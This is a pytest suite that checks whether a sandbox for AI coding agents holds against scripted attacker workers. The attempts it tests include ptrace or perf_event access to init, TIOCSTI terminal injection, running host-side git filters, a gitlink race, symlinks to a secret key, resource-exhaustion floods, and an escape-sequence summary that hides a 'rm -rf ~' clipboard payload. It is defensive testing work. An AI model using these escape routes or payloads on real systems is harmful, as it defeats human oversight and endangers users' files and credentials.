        ]

    name = f"/{MARK}-{os.getpid()}".encode()
    mq = libc.mq_open(
        name, os.O_CREAT | os.O_RDWR, ctypes.c_int(0o600), ctypes.byref(MqAttr(0, 1, 1, 0))
    )
    out["mq_open"] = "ok" if mq >= 0 else os.strerror(ctypes.get_errno())
    if mq >= 0:
        os.close(mq)
        libc.mq_unlink(name)
    return out


def _sandbox_pids(run: Run) -> list[int]:
    return [
        p
        for p in _processes_of(run.dispatch_id, _namespaces_of(run.dispatch_id))
        if p != _supervisor(run)
    ]


# ------------------------------------------------------------------------------------- the main run
@dataclass
class MainRun:
    run: Run
    filter_ran: str
    state: str
    result_commit: str | None
    tree: list[tuple[str, str, str, str]]  # (mode, type, object, path) of the result commit
    blobs_with_key: list[str]
    worker_log: str


LFS_LIKE = """
[filter "lfs"]
\tclean = {script} %f
\tsmudge = cat
\trequired = true
"""


@pytest.fixture(scope="module")
def main_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MainRun]:
    """The `all` attacker in a repository whose user has a git-lfs style filter in ~/.gitconfig
    (git-lfs puts exactly such a section there) and whose common dir holds a submodule's config with
    a credential and a git-crypt key; the demo worker then records its result, and oms commits what
    was left."""
    base = tmp_path_factory.getbasetemp() / "round2-filter"
    base.mkdir(exist_ok=True)
    ran = base / "filter-ran"
    script = base / "lfs-filter.sh"
    script.write_text(f"#!/bin/sh\necho \"uid $(id -u) in $PWD on $*\" >> '{ran}'\ncat\n")
    script.chmod(0o755)
    with _world(tmp_path_factory, "round2-main", LFS_LIKE.format(script=script)) as chain:
        common = chain.repo / ".git"
        (common / "modules" / "vendor").mkdir(parents=True)
        (common / "modules" / "vendor" / "config").write_text(
            f'[remote "origin"]\n\turl = https://ci:{MODULE_SECRET}@example.invalid/vendor.git\n'
        )
        crypt_key = os.urandom(32).hex()
        (common / "git-crypt" / "keys").mkdir(parents=True)
        (common / "git-crypt" / "keys" / "default").write_text(crypt_key)
        agent = chain.base / "agent.sh"
        agent.write_text(WORKER_SCRIPT)
        run = _start(
            chain,
            ["all", str(agent)],
            "The attacker's ticket",
            module_secret=MODULE_SECRET,
            crypt_key=crypt_key,
        )
        with _running(run):
            doc = run.wait("attack.json", 60)
            run.results, run.seen = doc["results"], doc["seen"]
            log = run.home / "worker.log"
            _wait(
                "the demo worker to record its result",
                lambda: b"waiting in the pane" in (log.read_bytes() if log.exists() else b""),
                60,
                _diagnose(chain, run.dispatch_id),
            )
        with chain.workspace() as ws:
            dispatch = ws.store.records("dispatch").read(run.dispatch_id)
            ref = dispatch.payload.get("result_evidence")
            commit = (
                access.obj(ws.store.evidence.get(str(ref)).body, "payload").get("result_commit")
                if isinstance(ref, str)
                else None
            )
        tree: list[tuple[str, str, str, str]] = []
        with_key: list[str] = []
        if isinstance(commit, str):
            key = (chain.state / "keys" / "state.ed25519").read_bytes()
            for line in git("ls-tree", "-r", "-z", commit, cwd=chain.repo).split("\0"):
                if line:
                    meta, path = line.split("\t", 1)
                    mode, kind, obj = meta.split()
                    tree.append((mode, kind, obj, path))
                    blob = subprocess.run(
                        ["git", "cat-file", "blob", obj],
                        cwd=chain.repo,
                        capture_output=True,
                        check=True,
                    )
                    if key in blob.stdout:
                        with_key.append(path)
        yield MainRun(
            run,
            ran.read_text() if ran.exists() else "",
            dispatch.state,
            commit if isinstance(commit, str) else None,
            tree,
            with_key,
            log.read_text(),
        )


def test_init_is_out_of_reach_through_every_abi_and_proc_alias(main_run: MainRun) -> None:
    """ptrace and its kin through the i386 (`int 0x80`) and x32 ABIs of a 64-bit process, the
    `/proc/1` aliases (`/proc/self/..`, `/proc/thread-self/..`, `/proc/self/root`), and a nested
    user and mount namespace that binds `/proc` without its cover, unmounts it, or mounts a fresh
    proc: all refused."""
    main_run.run.blocked("init: ")
    assert (
        main_run.run.seen["pidfd"] >= 0
    )  # pidfd_open(1) works: the pidfd calls were really tried on init
    assert len([k for k in main_run.run.results if k.startswith("init: ")]) == 10 + 6 + 1
    assert "NESTED-RAN" in main_run.run.seen["nested_proc"]


def test_init_cannot_be_inspected_through_perf_events_or_kcmp(main_run: MainRun) -> None:
    """The filter refuses the calls that reach into init (ADR 0012, decision 5: `process_vm_readv`
    among them). `perf_event_open` on pid 1 passes the same access check (PTRACE_MODE_READ, same
    uid) and is not on the list: samples of init's user stack (64 KiB each) read its memory — its
    argv and environment are found in them. `kcmp` against init is not on the list either (it
    compares init's descriptors with ours)."""
    main_run.run.blocked("inspect: ")


def test_no_process_group_outside_the_sandbox_can_become_the_terminals_foreground(
    main_run: MainRun,
) -> None:
    """The sandbox shares the pane's terminal: `tcsetpgrp` with every process group it cannot see
    (the supervisor's, the tmux server's, any host pid) must fail, so keys and job control stay
    inside."""
    main_run.run.blocked("terminal: ")
    assert (
        main_run.run.seen["foreground_tried"]
        > int(Path("/proc/sys/kernel/pid_max").read_text()) - 100
    )


def test_the_common_dir_shows_no_secret_beside_its_sanitised_config(main_run: MainRun) -> None:
    """`.git/config` is replaced by a sanitised copy (no remotes, no credentials), but the rest of
    the common dir is bound read-only as it is: a submodule's config under `modules/` carries its
    remote's credentials the same way, and git-crypt keeps the repository's symmetric key in
    `git-crypt/keys/`."""
    main_run.run.blocked("common: ")


def test_filters_of_the_users_git_config_never_run_on_files_the_agent_left(
    main_run: MainRun,
) -> None:
    """oms refuses a repository whose own config names a filter, but commits the leftovers with the
    user's global and system config in force (HOME is kept): a `.gitattributes` the agent writes
    picks any filter driver defined there (git-lfs installs one in ~/.gitconfig), which `git add`
    then runs on the host, as the user, outside the sandbox, on files the agent chose."""
    assert main_run.state == "result-received", main_run.worker_log  # the leftovers were committed
    assert main_run.filter_ran == "", (
        f"a filter of the user's git config ran on the host: {main_run.filter_ran}"
    )


def test_links_left_in_the_worktree_commit_no_host_file(main_run: MainRun) -> None:
    """Symlinks to the state key and the state root, left for oms to commit: git records them as
    links, and no blob of the result commit holds the key."""
    links = {path: mode for mode, _kind, _obj, path in main_run.tree if path.startswith("leak-")}
    assert links == {"leak-key": "120000", "leak-state": "120000"}
    assert main_run.blobs_with_key == []


def test_the_attacked_run_still_completes(main_run: MainRun) -> None:
    log = main_run.worker_log
    assert "record_dispatch_result: dispatch result-received" in log
    assert "hook Stop: released (the dispatch has its result)" in log
    assert main_run.result_commit is not None
    assert "CHANGELOG.md" in {path for *_rest, path in main_run.tree}


# ----------------------------------------------------------------------------------------- terminal
def test_input_pushed_into_the_pane_terminal_reaches_nothing_outside(deliverable: Chain) -> None:
    """The agent pushes `touch <loot>` into the pane's terminal (TIOCSTI:
    `dev.tty.legacy_tiocsti=1`) and exits without reading it, after printing an OSC 52 clipboard
    write, a DCS passthrough, a pane title and a window name naming another dispatch: nothing
    outside reads the input once the sandbox is gone (the pane stays, dead: `remain-on-exit`), tmux
    keeps no buffer, and oms still finds the pane by its own names."""
    loot = deliverable.base / f"{MARK}-tiocsti"
    victim = "dsp-" + "0" * 32
    run = _start(
        deliverable, ["terminal"], "Push input into the terminal", loot=str(loot), victim=victim
    )
    with _running(run):
        run.wait("terminal.json", 30)
        exited = deliverable.state / "panes" / f"{run.dispatch_id}.exit.json"
        _wait("the sandbox to end", exited.exists, 30, _diagnose(deliverable, run.dispatch_id))
        with deliverable.workspace() as ws:
            panes = Delivery.open(ws).panes
            assert isinstance(panes, TmuxPanes)
            _wait(
                "the pane to be dead",
                lambda: (p := panes.observe(run.dispatch_id)) is not None and p.dead,
                30,
            )
            pane = panes.observe(run.dispatch_id)
            buffers = panes.tmux("list-buffers", check=False).stdout
            listing = panes.tmux(
                "list-panes", "-a", "-F", "#{session_name} #{window_name} #{@oms_dispatch}"
            ).stdout
        assert json.loads(exited.read_text())["status"] == 0
    assert pane is not None
    assert pane.session == run.dispatch_id
    assert buffers == b""
    assert victim.encode() not in listing.replace(b"\x1b", b"")
    assert not loot.exists()


# ------------------------------------------------------------------------------------- gitlink race
def test_a_repository_swapped_in_after_oms_looked_for_one_is_never_committed(
    deliverable: Chain,
) -> None:
    """oms refuses to commit a repository (its gitlink would make a later `git status` in the
    worktree enter it and run its config). It looks once (`git ls-files --others`), then runs
    `status`, the config check and `git add --all`: a directory that becomes a repository in between
    (inotify says when oms's git has read it; a rename makes it one) is committed as a gitlink, and
    the user's own `git status` in the worktree then runs the nested repository's clean filter on
    the host."""
    loot = deliverable.base / f"{MARK}-gitlink"
    run = _start(deliverable, ["gitlink"], "Vendor a library", loot=str(loot))
    with _running(run):
        doc = run.wait("gitlink.json", 90)
    answer = doc["answer"]
    assert doc["swapped"], f"oms's git never read the directory: {doc}"
    committed = answer.get("result_commit")
    gitlinks = []
    if isinstance(committed, str):
        tree = git("ls-tree", "-r", committed, cwd=deliverable.repo)
        gitlinks = [line for line in tree.splitlines() if line.startswith("160000")]
    by_oms = (
        loot.read_text().strip() if loot.exists() else ""
    )  # oms itself must never have entered it
    user_status = ""
    if gitlinks:  # what the user's own look at the result does (plain git, default settings)
        worktree = _worktree_of(deliverable, run.dispatch_id)
        user_status = subprocess.run(
            ["git", "status"], cwd=worktree, capture_output=True, text=True, check=False
        ).stdout
    ran = loot.read_text().strip() if loot.exists() else ""
    assert by_oms == "", f"oms ran the nested repository's filter itself (as uid {by_oms})"
    assert gitlinks == [], (
        f"oms committed a repository as {gitlinks} (result {answer}); a plain `git status` in "
        f"the worktree then ran its clean filter on the host as uid {ran or '?'}:\n{user_status}"
    )


# ---------------------------------------------------------------------------------------- resources
DISK_BOUND = 512 * 1024 * 1024  # the `[limits] disk_bytes` of the resources world (worktree + home)
LARGEST_FILE = TMPFS_FILL  # its `file_bytes` (the /tmp fill is one file)
DISK_FILE = 192 * 1024 * 1024  # each file the attacker allocates: under the largest file
DISK_FILES = 4  # ... in the home and in the worktree: 1.5 GiB together, three times the bound
RESOURCE_LIMITS = f"""
[limits]
disk_bytes = {DISK_BOUND}
file_bytes = {LARGEST_FILE}
"""


@dataclass
class Resources:
    seen: dict[str, Any]
    host: dict[str, Any]


def _ended(run: Run, timeout: float) -> dict[str, Any] | None:
    """The exit record of `run`'s sandbox once it has ended (None if it runs on after `timeout`)."""
    exited = run.chain.state / "panes" / f"{run.dispatch_id}.exit.json"
    with contextlib.suppress(AssertionError):
        _wait("the worker to end", exited.exists, timeout)
    if not exited.exists():
        return None
    doc = json.loads(exited.read_text())
    assert isinstance(doc, dict)
    return doc


def _end_record(run: Run, timeout: float = 30.0) -> tuple[str | None, str | None]:
    """The worker's end reason and detail, once oms observed it (as `oms status` would: its pane may
    still be there a moment after the supervisor recorded the end); (None, None) while it runs on.
    """

    def record() -> tuple[object, object]:
        with run.chain.workspace() as ws:
            Delivery.open(ws).observe(run.dispatch_id)
            worker = ws.store.records("worker").read(run.dispatch_id).payload
        return worker.get("end_reason"), worker.get("end_detail")

    with contextlib.suppress(AssertionError):  # (it runs on: the caller judges)
        eventually(lambda: record()[0], timeout=timeout)
    reason, detail = record()
    return (str(reason) if reason else None), (str(detail) if detail else None)


@pytest.fixture(scope="module")
def resources(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Resources]:
    """The `resources` attacker, and what the host measured while it held each resource; the disk
    last (the worker ends there). Its tests are `serial`: it takes every inotify instance, key byte
    and message-queue byte of the host user, whose other processes (another test's) then fail, and
    one another test frees meanwhile would let the host's own call through."""
    with _world(tmp_path_factory, "round2-resources") as chain:
        chain.edit_config(lambda text: text + RESOURCE_LIMITS, commit=True)
        targets = {"tmpfs_fill": TMPFS_FILL, "disk_file": DISK_FILE, "disk_files": DISK_FILES}
        run = _start(chain, ["resources"], "Take what you can", **targets)
        host: dict[str, Any] = {}
        with _running(run):
            run.wait("memory-ready.json", 60)
            pids = _sandbox_pids(run)
            host["memory_cgroup_limit"] = _cgroup_limit(pids[0], "memory")
            host["mem_total"] = _meminfo("MemTotal")
            shmem = _meminfo("Shmem")
            run.go("memory-baseline")
            run.wait("memory-filled.json", 60)
            host["shmem_growth"] = _meminfo("Shmem") - shmem
            run.go("memory-measured")
            host["quotas_held_inside"] = run.wait("quotas-held.json", 60)
            host["quotas"] = _host_quota_calls()
            run.go("quotas-checked")
            seen = run.wait("resources.json", 60)["seen"]
            host["ended"] = _ended(run, 60)
            host["end"] = _end_record(run) if host["ended"] is not None else (None, None)
            st = os.statvfs(sandbox_dir(chain.state) / "homes")
            host["disk_avail"] = st.f_bavail * st.f_frsize
        yield Resources(seen, host)


@dataclass
class Tasks:
    seen: dict[str, Any] | None  # what the attacker saw (None: it was ended before it could say)
    ended: dict[str, Any] | None  # its sandbox's exit record (None: it runs on)
    end: tuple[str | None, str | None]  # the worker's end reason and detail
    pids_cgroup_limit: int | None


@pytest.fixture(scope="module")
def tasks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tasks]:
    """The `tasks` attacker: as many threads as it can start."""
    with _world(tmp_path_factory, "round2-tasks") as chain:
        run = _start(chain, ["tasks"], "Take every pid", threads=THREADS)
        with _running(run):
            said = run.home / "tasks.json"
            exited = chain.state / "panes" / f"{run.dispatch_id}.exit.json"
            why = _diagnose(chain, run.dispatch_id)
            _wait("the attack to end", lambda: said.exists() or exited.exists(), 120, why)
            pids = _sandbox_pids(run)
            limit = _cgroup_limit(pids[0], "pids") if pids else None
            seen = json.loads(said.read_text())["seen"] if said.exists() else None
            ended = _ended(run, 30)
            end = _end_record(run) if ended is not None else (None, None)
            yield Tasks(seen, ended, end, limit)


def test_a_sandbox_cannot_take_the_hosts_process_table(tasks: Tasks) -> None:
    """A sandbox's tasks are bounded by its pids cgroup (RLIMIT_NPROC does not bound them when oms
    runs as root: the agent maps to uid 0, which the kernel exempts; otherwise it is the user's own
    limit, shared with everything the user runs): a fork bomb inside stops at the bound instead of
    taking the host's pid space (pid_max), and the worker is ended with `limit: pids`."""
    seen = tasks.seen or {}
    assert tasks.end[0] == "limit: pids", (
        f"the worker was not ended at a pids bound (end {tasks.end}, exit record {tasks.ended}); "
        f"the sandbox started {seen.get('tasks_started')} of {THREADS} tasks (host pid_max "
        f"{seen.get('pid_max')}, pids cgroup limit {tasks.pids_cgroup_limit}, limits inside:\n"
        f"{seen.get('limits')})"
    )
    assert seen.get("tasks_started", 0) < THREADS


@pytest.mark.serial
def test_a_sandbox_cannot_pin_the_hosts_memory(resources: Resources) -> None:
    """A memory cgroup bounds a sandbox. Its `/tmp`, `/var/tmp` and `/dev` are tmpfs (RAM,
    unswappable without swap) of half the host's RAM each, and a nested user namespace mounts
    another of any size; pages in a tmpfs belong to no process, so the OOM killer cannot free them
    by killing the agent — but they are charged to the cgroup of the process that wrote them, so the
    bound holds them too."""
    seen, host = resources.seen, resources.host
    limit = host["memory_cgroup_limit"]
    assert limit is not None, (
        f"no memory limit below the host's {host['mem_total']} bytes (cgroup limit {limit}); "
        f"RAM-backed mounts inside: {seen['tmpfs_sizes']}; a nested tmpfs of 1 TiB: "
        f"{seen['nested_tmpfs']}; "
        f"{TMPFS_FILL} bytes written into /tmp grew the host's Shmem by {host['shmem_growth']}"
    )
    total = host["mem_total"]
    assert limit < total, f"the memory limit {limit} is not below the host's {total}"


@pytest.mark.serial
def test_a_sandbox_cannot_fill_the_hosts_disk(resources: Resources) -> None:
    """The private home (under the state root) and the worktree are plain binds of the host's file
    system, with no quota and no size-limited mount: the supervisor's watchdog measures them and
    ends a worker that holds more than its bound (here 512 MiB) with `limit: disk`. The attacker
    allocates three times the bound, in files each under the largest file it may write."""
    seen, host = resources.seen, resources.host
    wrote = {name: seen[f"disk_{name}"] for name in ("home", "worktree")}
    assert host["end"][0] == "limit: disk", (
        f"the agent filled the host's file system unchecked ({host['disk_avail']} bytes free; "
        f"bound {DISK_BOUND}): it wrote {wrote}; its end {host['end']}, exit record "
        f"{host['ended']}"
    )


@pytest.mark.serial
def test_a_sandbox_cannot_exhaust_kernel_quotas_it_shares_with_the_host_user(
    resources: Resources,
) -> None:
    """Some kernel quotas count per user across user namespaces: inotify instances (per user up the
    namespace chain: `fs.inotify.max_user_instances`), key bytes (per kernel uid:
    `kernel.keys.maxbytes`, or `root_maxbytes`) and POSIX message-queue bytes (RLIMIT_MSGQUEUE,
    charged up the chain). The sandbox charges them to the host user it maps to: while the agent
    holds them, the user's own processes outside (file watchers, editors, other workers' CLIs;
    session keyrings made at login; message queues) cannot get one. A sandbox takes at most its
    share of each (`process/confine.py`): its own user namespace bounds them, and its
    RLIMIT_MSGQUEUE is lowered; keys it cannot make at all."""
    host = resources.host
    failed = {what: outcome for what, outcome in host["quotas"].items() if outcome != "ok"}
    assert failed == {}, (
        f"while the sandbox held {host['quotas_held_inside']}, "
        f"the host user's own calls failed: {failed}"
    )


# --------------------------------------------------------------------------------------- the broker
@dataclass
class BrokerRun:
    hostile: dict[str, Any]
    hooks: dict[str, Any]
    versions_before: int
    versions_after: int
    rss_before: int
    rss_after: int
    supervisor_alive: bool
    log: str


@pytest.fixture(scope="module")
def broker_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerRun]:
    """The `broker` attacker against its real supervisor, measured from the host."""
    with _world(tmp_path_factory, "round2-broker") as chain:
        run = _start(
            chain,
            ["broker"],
            "Talk to the broker",
            hook_flood=HOOK_FLOOD,
            big_method=BIG_METHOD,
            big_lines=BIG_LINES,
        )
        with _running(run):
            supervisor = _supervisor(run)
            hostile = run.wait("hostile.json", 90)

            def versions() -> int:
                with chain.workspace() as ws:
                    return len(ws.store.records("session").versions(run.session_id))

            before = versions()
            run.go("hooks")
            hooks = run.wait("hooks-sent.json", 90)
            after = versions()
            run.wait("session-open.json", 30)
            rss_before = _rss(supervisor)
            run.go("rss-before")
            run.wait("session-sent.json", 120)
            rss_after = _rss(supervisor)
            alive = (
                os.path.exists(f"/proc/{supervisor}")
                and not (chain.state / "panes" / f"{run.dispatch_id}.exit.json").exists()
            )
            run.go("rss-after")
        log = chain.state / "panes" / f"{run.dispatch_id}.log"
        yield BrokerRun(
            hostile,
            hooks,
            before,
            after,
            rss_before,
            rss_after,
            alive,
            log.read_text() if log.exists() else "",
        )


def test_hostile_json_lines_are_answered_and_the_broker_serves_on(broker_run: BrokerRun) -> None:
    """900,000 open brackets, 150,000 nested objects, a batch of 10,000 pings and one of 200
    read_dispatch calls (protocol 2025-03-26) and duplicate ids: each is answered in the MCP
    contract, and the doors still work afterwards."""
    seen = broker_run.hostile
    assert seen["deep_array"]["error"]["code"] == -32700
    assert seen["deep_object"]["error"]["code"] == -32700
    assert seen["batch_pings"][0] == 10000
    assert seen["batch_reads"][0] == 200
    assert [r["id"] for r in seen["duplicate_ids"]] == [7, 7]
    assert seen["read_dispatch_after"]
    assert broker_run.supervisor_alive


def test_hooks_cannot_grow_the_state_root_without_bound(broker_run: BrokerRun) -> None:
    """Every SessionStart (and UserPromptSubmit, and a Stop that changes the block count) writes a
    new version of the session record, with no rate limit or cap: the agent writes into the state
    root — the disk of every record and key — as fast as its broker answers."""
    written = broker_run.versions_after - broker_run.versions_before
    hooks = broker_run.hooks
    assert hooks["answered"] == HOOK_FLOOD  # every hook was answered in the CLI's contract
    assert (
        0 < hooks["applied"] < HOOK_FLOOD
    )  # the first ones applied, the flood then refused without a write
    assert written <= 30, (
        f"{hooks['sent']} hooks in {hooks['seconds']:.2f}s wrote {written} session versions "
        f"(~{written / max(hooks['seconds'], 0.001):.0f} a second, each a record file and an "
        f"op-index file)"
    )


def test_a_bridge_session_cannot_grow_its_brokers_memory_without_bound(
    broker_run: BrokerRun,
) -> None:
    """`mcp.Session` appends every request's method name to `session.log` for the life of the
    connection; a session that sends method names of a megabyte makes the supervisor — a host
    process, outside any bound the sandbox could get — keep all of it."""
    grown = broker_run.rss_after - broker_run.rss_before
    assert grown < 32 * 1024 * 1024, (
        f"{BIG_LINES} lines with {BIG_METHOD}-character method names grew the supervisor's RSS "
        f"by {grown} bytes ({broker_run.rss_before} -> {broker_run.rss_after})"
    )


# -------------------------------------------------------------------------------------- on the host
@pytest.fixture
def bound(chain: Chain) -> Bound:
    return bind(chain)


def test_a_summary_cannot_put_terminal_escapes_into_the_commit_oms_writes(bound: Bound) -> None:
    """oms writes the first line of the agent's summary into the commit it makes for a `completed`
    result. Records get a one-line printable copy; the commit must not carry raw escape sequences
    either (`git log` prints them to the terminal of whoever reviews the result: an OSC 52 clipboard
    write, a title, ...)."""
    tools = BoundTools(bound)
    try:
        tools.call("acknowledge_dispatch", {})
        (bound.worktree / "WORK.md").write_text("work\n")
        summary = "Fixed it\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x1b]0;owned\x07 done"
        out, is_error = tools.call(
            "record_dispatch_result", {"status": "completed", "summary": summary}
        )
    finally:
        tools.close()
    assert is_error is False, out
    message = git("log", "-1", "--format=%B", str(out["result_commit"]), cwd=bound.chain.repo)
    controls = sorted(
        {f"{ord(c):#04x}" for c in message if (ord(c) < 0x20 and c != "\n") or ord(c) == 0x7F}
    )
    assert controls == [], f"control characters in the commit message: {controls}: {message!r}"
